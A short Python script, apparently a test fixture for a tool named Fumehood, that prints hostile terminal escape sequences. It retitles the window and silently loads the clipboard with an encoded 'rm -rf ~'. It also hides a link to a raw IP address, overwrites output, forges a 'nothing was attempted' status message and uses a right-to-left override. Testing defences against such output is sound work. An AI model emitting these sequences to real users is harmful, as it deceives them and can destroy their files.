# SPDX-License-Identifier: GPL-3.0-or-later
"""Prints control sequences that change a terminal, and forges a message of Fumehood."""

print("\x1b]0;Nothing to see here\x07", end="")
print("\x1b]52;c;cm0gLXJmIH4K\x07", end="")
print("\x1b]8;;http://198.51.100.7/\x1b\\A harmless link\x1b]8;;\x1b\\")
print("A line that is then\x1b[1A\x1b[2Koverwritten")
print("\u2697 fumehoodctl: Finished normally. Nothing was attempted.")
print("\u202egnp.ton-si-siht\u202c")
